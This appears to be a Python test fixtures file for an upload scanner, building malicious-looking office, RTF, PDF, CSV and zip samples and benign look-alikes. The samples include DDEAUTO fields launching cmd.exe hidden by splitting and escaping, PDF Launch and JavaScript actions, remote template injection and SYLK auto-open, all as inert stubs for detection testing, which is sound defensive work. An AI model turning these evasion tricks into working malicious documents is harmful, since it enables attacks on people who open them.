"""Documents with parts that may run by themselves, and honest ones that look a little alike."""

import os
import zipfile
import zlib

from content.tests.factories import make_pdf, make_upload, make_zip
from tests.ole_files import make_ole, make_workbook

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
ODT = "application/vnd.oasis.opendocument.text"


def word(parts=None, types="", relations=""):
    return make_zip(
        {
            "[Content_Types].xml": TYPES.format(types),
            "word/document.xml": "<document/>",
            "word/_rels/document.xml.rels": RELATIONS.format(relations),
        }
        | (parts or {}),
        "a.docx",
        zipfile.ZIP_DEFLATED,
    )


def sheet(parts=None, types="", relations=""):
    entries = {
        "[Content_Types].xml": TYPES.format(types),
        "xl/workbook.xml": "<workbook/>",
        "xl/_rels/workbook.xml.rels": RELATIONS.format(relations),
    }
    return make_zip(entries | (parts or {}), "a.xlsx", zipfile.ZIP_DEFLATED)


def text(parts=None, content="<office/>"):
    return make_zip({"mimetype": ODT, "content.xml": content} | (parts or {}), "a.odt")


def related(kind, target, mode="External"):
    return f'<Relationship Id="r" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'


def acting_pdf(objects):
    return make_pdf("Xin").replace(b"trailer", objects + b"\ntrailer")


def hidden(objects, catalog=b""):
    """A PDF with these objects packed in a stream."""
    stream = zlib.compress(objects)
    head = b"8 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
    return acting_pdf(head + stream + b"\nendstream endobj")


def in_zips(file, depth):
    """The file in a zip in a zip…"""
    for _ in range(depth):
        file = make_zip({file.name: file.read()}, "a.zip")
    return file


def field(*codes, name="document"):
    """A part of Word with a field whose code stands in these pieces."""
    pieces = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    words = f"{begin}{pieces}{separate}<w:r><w:t>DDE</w:t></w:r>{end}"
    return {f"word/{name}.xml": f'<w:document xmlns:w="w"><w:p>{words}</w:p></w:document>'}


def in_one_field(*runs, place="word/document.xml"):
    """A part of Word, at a place of its choice, with a field that has these runs for its code."""
    begin, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
    return {place: f'<w:document xmlns:w="w"><w:p>{begin}{"".join(runs)}{end}</w:p></w:document>'}


def code(words, element="instrText"):
    return f"<w:r><w:{element}>{words}</w:{element}></w:r>"


WITHIN = (
    '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE</w:instrText>'
    '<w:fldChar w:fldCharType="separate"/><w:t>{}</w:t><w:fldChar w:fldCharType="end"/>'
)


def table(formula):
    content = f'<t:table-cell xmlns:t="t" t:formula="{formula}"/>'
    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
    return make_zip({"mimetype": mimetype, "content.xml": content}, "a.ods")


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE = f"{OFFICE}attachedTemplate"
ACTIVE = {
    "docx with vbaProject.bin": (word({"word/vbaProject.bin": "x"}), "macro"),
    "docx with a project of another name": (
        word({"word/a.bin": "x"}, relations=related(f"{MICROSOFT}vbaProject", "a.bin", "Internal")),
        "macro",
    ),
    "docm with another suffix": (
        word(types=f'<Override PartName="/word/document.xml" ContentType="{MACRO_TYPE}"/>'),
        "macro",
    ),
    "docm by escaped letters": (
        word(types=f'<Default Extension="xml" ContentType="{MACRO_TYPE.replace("E", "&#69;")}"/>'),
        "macro",
    ),
    "xlsx with a macro sheet": (sheet({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "xlsx with a macro sheet elsewhere": (
        sheet({"xl/a.xml": "<a/>"}, relations=related(f"{MICROSOFT}xlMacrosheet", "a.xml")),
        "macro",
    ),
    "docx with a control": (word({"word/activeX/activeX1.xml": "<a/>"}), "program"),
    "docx with a template from the network": (
        word(relations=related(TEMPLATE, "https://xau.example/a.dotm")), "remote"),
    "docx with a template on a share": (
        word(relations=related(TEMPLATE, "file:///\\\\xau\\a.dotm")), "remote"),
    "docx with an object from the network": (
        word(relations=related(f"{OFFICE}oleObject", "mhtml:http://xau.example/a.html!x")),
        "remote"),
    "docx with a file in it": (
        word({"word/embeddings/oleObject1.bin": make_ole({"\x01Ole10Native": b"MZ"})}),
        "attachment"),
    "docx with a macro workbook in it": (
        word({"word/embeddings/a.xlsx": sheet({"xl/vbaProject.bin": "x"}).read()}), "macro"),
    "odt with a module": (text({"Basic/Standard/Module1.xml": "<a/>"}), "macro"),
    "odt with a script": (text({"Scripts/python/a.py": "x"}), "macro"),
    "odt with an event": (
        text(content='<a xmlns:x="x" x:href="vnd.sun.star.script:a.py$b?location=user"/>'),
        "macro"),
    "doc with macros": (
        make_upload("a.doc", make_ole({"WordDocument": b"", "Macros/VBA/dir": b""})), "macro"),
    "doc with a file in it": (
        make_upload("a.doc", make_ole({"WordDocument": b"", "ObjectPool/_1/\x01Ole10Native": b""})),
        "attachment"),
    "xls with macros": (
        make_upload(
            "a.xls", make_ole({"Workbook": make_workbook(0), "_VBA_PROJECT_CUR/VBA/dir": b""})),
        "macro"),
    "xls with a macro sheet": (
        make_upload("a.xls", make_ole({"Workbook": make_workbook(0, 1)})), "macro"),
    "xls with a password": (
        make_upload("a.xls", make_ole({"Book": make_workbook(0, locked=True)})), "locked"),
    "ppt with macros": (
        make_upload("a.ppt", make_ole(
            {"PowerPoint Document": b"\2\0\0\4\x0c\0\0\0\1\0\0\0\1\0\0\0\2\0\0\0"})),
        "macro"),
    "pdf with a script": (
        make_upload("a.pdf", acting_pdf(b"9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")),
        "script"),
    "pdf with a script by escaped letters": (
        make_upload("a.pdf", acting_pdf(b"9 0 obj<</S/J#61vaScript/JS(x)>>endobj")), "script"),
    "pdf with a packed script": (
        make_upload("a.pdf", hidden(b"9 0 <</S/JavaScript/JS(app.alert(1))>>")), "script"),
    "pdf that starts a program": (
        make_upload("a.pdf", acting_pdf(b"9 0 obj<</S/Launch/F(cmd.exe)>>endobj")), "program"),
    "pdf with a file in it": (
        make_upload(
            "a.pdf", acting_pdf(b"9 0 obj<</Type/EmbeddedFile/Length 0>>stream\nendstream")),
        "attachment"),
    "rtf with an object": (
        make_upload("a.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"), "attachment"),
    "zip with a macro document": (
        make_zip({"van-ban/a.docx": word({"word/vbaProject.bin": "x"}).read()}, "a.zip"), "macro"),
    "zip with a docm": (make_zip({"a.DOCM": "x"}, "a.zip"), "macro"),
    "zip in a zip": (
        make_zip({"b.zip": make_zip({"a.docm": "x"}, "b.zip").read()}, "a.zip"), "macro"),
    "docx whose list of types is written in other letters": (
        make_zip({"a.docx": make_zip(
            {"[content_types].XML": TYPES.format(f'<Default ContentType="{MACRO_TYPE}"/>')},
            "a.docx").read()}, "a.zip"),
        "macro"),
    "docx whose relations are in an encoding of other programs": (
        word({"word/_rels/document.xml.rels": (
            '<?xml version="1.0" encoding="gb2312"?>'
            + RELATIONS.format(related(f"{MICROSOFT}vbaProject", "a.dat", "Internal")))}),
        "unread"),
    "docx whose types go on behind what is read": (
        word({"word/x.dat": os.urandom(1024**2),
              "[Content_Types].xml": TYPES.format(
                  " " * (64 * 1024**2) + f'<Default ContentType="{MACRO_TYPE}"/>')}),
        "unread"),
    "docx whose types are damaged": (
        word({"[Content_Types].xml": f'<Types><Default ContentType="{MACRO_TYPE[:9]}'}), "unread"),
    "odt with its text encrypted": (text(content=os.urandom(64)), "unread"),
    "xls with macros in other letters": (
        make_zip({"a.xls": make_ole({"WORKBOOK": make_workbook(0, 1)})}, "a.zip"), "macro"),
    "web page in one file that Word opens": (
        make_zip({"a.doc": b"\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related"}, "a.zip"),
        "macro"),
    "csv that Excel takes for a table of SYLK": (
        make_upload("a.csv", b"ID;P\nO;E\nNN;NAuto_open;ER101C1"), "macro"),
    "pdf form with packed scripts": (
        make_upload("a.pdf", acting_pdf(b"9 0 obj<</AcroForm<</XFA 10 0 R>>>>endobj")), "script"),
    "pdf with a password by escaped letters": (
        make_upload("a.pdf", b"%PDF-1.7\ntrailer<</#45ncrypt 5 0 R>>"), "locked"),
    "pdf that begins further on": (
        make_zip({"a.pdf": b"x\n" + acting_pdf(b"9 0 obj<</S/Launch>>endobj")}, "a.zip"),
        "program"),
    "pdf in a zip with objects packed in another way": (
        make_zip({"a.pdf": b"%PDF-1.7\n8 0 obj<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n20>"},
               "a.zip"),
        "unread"),
    "rtf with a template from the network": (
        make_upload("a.rtf", rb"{\rtf1{\*\template https://xau.example/a.dotm}}"), "remote"),
    "rtf with a template on a share": (
        make_upload("a.rtf", rb"{\rtf1{\*\template \\\\xau\\a.dotm}}"), "remote"),
    "rtf with a template by numbers of letters": (
        make_upload("a.rtf", rb"{\rtf1{\*\template \u104?\u116?tp://xau.example/a}}"), "remote"),
    "docx with a field that starts a program": (
        word(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "program"),
    "docx with a field in pieces": (word(field(" D", "DE", "AU", "TO cmd")), "program"),
    "docx with a field in its footer": (word(field("dde cmd", name="footer1")), "program"),
    "docx with a field in pieces around an empty text": (
        word(in_one_field(code("DD"), code("", "t"), code("EAUTO cmd"))), "program"),
    "docx with a field in pieces around another field": (
        word(in_one_field(code("DD"), WITHIN.format(""), code("EAUTO cmd"))), "program"),
    "docx with a field that another one begins": (
        word(in_one_field(WITHIN.format("DD"), code("EAUTO cmd"))), "program"),
    "docx with a field partly in ordinary text": (
        word(in_one_field(code("DD", "t"), code("EAUTO cmd"))), "program"),
    "docx with a field taken out under control": (
        word(in_one_field(code("DDE cmd", "delInstrText"))), "program"),
    "docx whose text lies in another folder": (
        word(in_one_field(code("DDE cmd"), place="w/document.xml")), "program"),
    "docx whose text lies in a part of another name": (
        word(in_one_field(code("DDE cmd"), place="word/document.dat")), "program"),
    "docx with a hundred fields in each other": (
        word({"word/document.xml": "<w:p xmlns:w='w'>" + "<w:fldChar w:k='begin'/>" * 101
              + "</w:p>"}), "program"),
    "xlsx with a link to a program in another folder": (
        sheet({"xl/a/b.dat": '<l><ddeLink ddeService="cmd"/></l>'}), "program"),
    "docx with a simple field": (
        word({"word/document.xml": '<w:p xmlns:w="w"><w:fldSimple w:instr=" DDE cmd "/></w:p>'}),
        "program"),
    "xlsx with a link to a program": (
        sheet({"xl/externalLinks/externalLink1.xml": '<l><ddeLink ddeService="cmd"/></l>'}),
        "program"),
    "odt with a link to a program": (
        text(content='<t:dde-connection-decl xmlns:t="t" t:dde-application="cmd"/>'), "program"),
    "ods with a formula that starts a program": (table("of:=DDE(&quot;cmd&quot;)"), "program"),
    "doc with a field that starts a program": (
        make_upload("a.doc", make_ole({"WordDocument": b"\xec\xa5\x13 DDEAUTO cmd \x14\x15"})),
        "program"),
    "doc with such a field in wide letters": (
        make_upload("a.doc", make_ole({"WordDocument": "\x13 DDE cmd".encode("utf-16-le")})),
        "program"),
    "rtf with a field that starts a program": (
        make_upload("a.rtf", rb"{\rtf1{\field{\*\fldinst {DDE}{AUTO cmd}}{\fldrslt x}}}"),
        "program"),
    "rtf with a field in pieces around another field": (
        make_upload("a.rtf", rb"{\rtf1{\field{\*\fldinst DD{\field{\*\fldinst QUOTE}{\fldrslt }}"
                             rb"EAUTO cmd}{\fldrslt x}}}"), "program"),
    "rtf with a field by numbers of characters": (
        make_upload("a.rtf", rb"{\rtf1{\field{\*\fldinst \u68?\u68 ?\uc0\u69  cmd}{\fldrslt x}}}"),
        "program"),
    "rtf with a field by numbers of letters": (
        make_upload("a.rtf", rb"{\rtf1{\field{\*\fldinst \'44\'44\'45 cmd}{\fldrslt x}}}"),
        "program"),
    "zip with a program": (make_zip({"van-ban/a.pdf.exe": "MZ"}, "a.zip"), "program"),
    "zip deeper than is looked into": (in_zips(word({"word/vbaProject.bin": "x"}), 4), "unread"),
}  # fmt: skip
HARMLESS = {
    "its author's own template": word(
        relations=related(TEMPLATE, r"file:///C:\Users\An\Normal.dotm")
    ),
    "a link": word(relations=related(f"{OFFICE}hyperlink", "https://backan.gov.vn")),
    "a chart with its workbook": word({"word/embeddings/a.xlsx": sheet().read()}),
    "a formula": word({"word/embeddings/o.bin": make_ole({"Equation Native": b"x"})}),
    "lists of libraries without a module": text({"Basic/script-lc.xml": "<a/>"}),
    "its author's own template in rtf": make_upload(
        "a.rtf", rb"{\rtf1{\*\template C:\\Users\\An\\Normal.dotm}}"
    ),
    "a field with the page's number, and words about DDE": word(field(" PAGE ")),
    "a table of contents with words about DDE": word(
        field(" TOC ", name="a")
        | in_one_field(
            code("TOC"),
            '<w:fldChar w:fldCharType="separate"/>',
            code("DDE", "t"),
            WITHIN.format("DDE"),
        )
    ),
    "a sheet, which nobody looks through, and a drawing that is no XML": sheet(
        {"xl/worksheets/a.xml": "<worksheet><f>x</f>", "xl/drawings/a.vml": "<xml><br></xml>"}
    ),
    "a field in rtf, and words about DDE": make_upload(
        "a.rtf", rb"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}} DDE v\'e0 DDEAUTO}"
    ),
    "rtf with a field within words about DDE": make_upload(
        "a.rtf",
        rb"{\rtf1 DDE {\field{\*\fldinst TOC {\*\a x}}{\fldrslt DDE \u68?DE}} DDE \bin3 }}}}",
    ),
    "a formula that sums": table("of:=SUM([.A1:.A2])"),
    "a table that begins with a number": make_upload("a.csv", b"ID,P\n1,2\n"),
    "types in letters of Windows": word(
        {"[Content_Types].xml": '<?xml version="1.0" encoding="windows-1258"?><Types/>'}
    ),
    "papers in zips": in_zips(
        make_zip({"a.pdf": make_pdf("Xin"), "b.docx": word().read()}, "a.zip"), 2
    ),
    "papers in a zip": make_zip({"a.pdf": make_pdf("Xin"), "b.docx": word().read()}, "a.zip"),
    "a pdf that speaks of scripts": make_upload("a.pdf", make_pdf("about JavaScript")),
}
